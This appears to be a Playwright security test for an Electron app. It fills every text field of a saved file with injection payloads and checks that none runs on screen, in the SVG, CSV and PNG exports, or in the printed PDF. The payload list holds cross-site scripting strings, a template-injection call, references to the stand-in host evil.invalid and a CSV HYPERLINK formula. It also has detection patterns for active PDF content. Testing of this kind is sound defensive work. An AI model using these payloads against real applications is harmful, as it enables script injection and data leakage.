/** B6: a file whose every text is an attack is shown as text, on screen, on paper and in every export. */
import { expect, test, type Page } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
import { record, times } from '../trial/record';
import { chooseMenu, leave, start, testFolder, type Blowback } from './support/blowback';
import { answerOpen, answerSave } from './support/dialogs';
import { openFromGallery, settled, showView } from './support/explore';

const PAYLOADS = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '<svg onload="window.attacked = 1"></svg>',
  '"><iframe srcdoc="<script>parent.attacked = 1</script>"></iframe>',
  '<a href="javascript:window.attacked = 1">x</a><style>*{background:url(https://evil.invalid/)}</style>',
  ']]><script xlink:href="https://evil.invalid/x.js"/><!--',
  '{{constructor.constructor("window.attacked = 1")()}} $t(app.frame.save) %s',
  '=HYPERLINK("https://evil.invalid/","x")',
] as const;

const VIEWS = ['explore', 'compare', 'rules', 'notes'] as const;

let blowback: Blowback;
const folder = testFolder();

test.afterAll(async () => {
  await leave(blowback.electron);
});

interface Texts {
  title: string;
  authors: string[];
  question: string;
  hypothesis: string;
  notes: string;
  history: { label: string }[];
  scenarios: { title: string; description: string }[];
}

/** The file with an attack as every free text of it, another one in each, beginning with the one of this number. */
function poisoned(text: string, first: number): string {
  const file = JSON.parse(text) as Texts; // what the app has just written
  let next = first;
  const attack = () => PAYLOADS[next++ % PAYLOADS.length];
  Object.assign(file, {
    ...{ title: attack(), authors: [attack()], question: attack(), hypothesis: attack() },
    ...{ notes: attack(), history: [{ label: attack() }] },
  });
  for (const scenario of file.scenarios)
    Object.assign(scenario, { title: attack(), description: attack() });
  return JSON.stringify(file);
}

/** What the page would have become: elements of an attack, or its script run. */
function attacks(page: Page): Promise<number> {
  return page.evaluate(() => {
    const planted = document.querySelectorAll(
      'iframe, img[src="x"], svg[onload], a[href^="javascript:"]',
    );
    return planted.length + (Reflect.has(window, 'attacked') ? 1 : 0);
  });
}

async function exported(page: Page, entry: string, name: string): Promise<string> {
  const file = path.join(folder, name);
  fs.rmSync(file, { force: true });
  await answerSave(blowback, file);
  await chooseMenu(blowback, 'File', 'Export', entry);
  await expect.poll(() => fs.existsSync(file)).toBe(true);
  await expect(page.getByText(`Written to “${name}”`).last()).toBeVisible();
  return fs.readFileSync(file, 'utf8');
}

/** Markup of an attack that is live in a drawing, or a formula that is live in a table. */
function isLive(svg: string, csv: string): boolean {
  // Between tags everything is plain text, in which quotes may stand as they are.
  const tags = svg.replaceAll(/>[^<]*/g, '>');
  const markup =
    /<script|<iframe|<img|\son[a-z]+=|href="javascript/i.test(tags) || /<style[^>]*>\*/i.test(svg);
  const formula = csv.split(/\r\n/).some((line) => /(?:^|,)"?=HYPERLINK/.test(line));
  return markup || formula;
}

/** The sheet of the handout as PDF, letter by letter: what it does, links and scripts, stands in it as plain words. */
async function printed(page: Page, name: string): Promise<string> {
  const file = path.join(folder, name);
  await answerSave(blowback, file);
  await page.getByTestId('handout-pdf').click();
  await expect(page.getByText(name)).toBeVisible({ timeout: 60_000 });
  return fs.readFileSync(file, 'latin1');
}

/** A control: the same sheet with a link on it. */
async function linkedPdf(page: Page): Promise<string> {
  await page.getByTestId('handout-sheet').evaluate((sheet) => {
    const link = document.createElement('a');
    link.href = 'https://evil.invalid/';
    link.textContent = 'elsewhere';
    sheet.prepend(link);
  });
  return printed(page, 'linked.pdf');
}

/** Something in a PDF that acts: a script, a link to elsewhere, another program, a form. */
function isActive(pdf: string): boolean {
  return /\/(?:JavaScript|JS|URI|Launch|SubmitForm|EmbeddedFile|OpenAction)\b/.test(pdf);
}

/** The same payloads in a page that trusts them. */
function control(page: Page): Promise<number> {
  return page.evaluate((payloads) => {
    const box = document.createElement('div');
    document.body.append(box);
    box.innerHTML = payloads.join('');
    const planted = box.querySelectorAll('iframe, img, svg, script, a').length;
    box.remove();
    return planted;
  }, PAYLOADS);
}

test('B6: script in every text of a file runs nowhere: screen, SVG, PNG, CSV, handout, PDF', async () => {
  test.setTimeout(900_000);
  const file = path.join(folder, 'base.blowback');
  blowback = await start({ folder });
  const { page, troubles } = blowback;
  await openFromGallery(page, 'handover-29');
  await answerSave(blowback, file);
  await page.getByTestId('save').click();
  await expect(page.getByText('Saved as “base.blowback”')).toBeVisible();
  const text = fs.readFileSync(file, 'utf8');
  let found = 0;
  let cases = 0;
  for (let at = 0; at < times(2, PAYLOADS.length); at += 1) {
    const attack = path.join(folder, `attack-${at}.blowback`);
    fs.writeFileSync(attack, poisoned(text, at));
    await answerOpen(blowback, attack);
    await chooseMenu(blowback, 'File', 'Open…');
    await expect(page.getByTestId('document-title')).toContainText(PAYLOADS[at].slice(0, 12));
    for (const view of VIEWS) {
      await showView(page, view);
      found += await attacks(page);
      cases += 1;
    }
    await showView(page, 'explore');
    await settled(page);
    const svg = await exported(page, 'Chart as drawing (SVG)…', `chart-${at}.svg`);
    const csv = await exported(page, 'Numbers (CSV)…', `numbers-${at}.csv`);
    await exported(page, 'Chart as picture (PNG)…', `chart-${at}.png`);
    if (isLive(svg, csv)) found += 1;
    cases += 3;
    await page.keyboard.press('Control+p');
    await expect(page.getByTestId('handout-sheet')).toContainText(PAYLOADS[at].slice(0, 12));
    found += await attacks(page);
    if (isActive(await printed(page, `sheet-${at}.pdf`))) found += 1;
    cases += 2;
  }
  // Chromium writes a link of a page into its PDF so that this finds it.
  const linked = await linkedPdf(page);
  const elsewhere = troubles.filter((trouble) => trouble.startsWith('request:'));
  const planted = await control(page);
  record({
    promise: 'B6',
    what: `${PAYLOADS.length} attacks in every text: screens, SVG, PNG, CSV, handout, PDF`,
    cases,
    faults: cases,
    losses: found + elsewhere.length,
    control: `put in as HTML, they plant ${planted} elements; a link in a PDF is ${isActive(linked) ? '' : 'not '}noticed`,
  });
  expect({ found, elsewhere, url: page.url() }).toEqual({
    found: 0,
    elsewhere: [],
    url: 'app://blowback/index.html',
  });
  expect(planted).toBeGreaterThan(4);
  expect(isActive(linked)).toBe(true);
  expect(isLive('<svg><a href="javascript:go()">here</a></svg>', '')).toBe(true);
  expect(isLive('<svg><text onload="go()">here</text></svg>', '')).toBe(true);
});
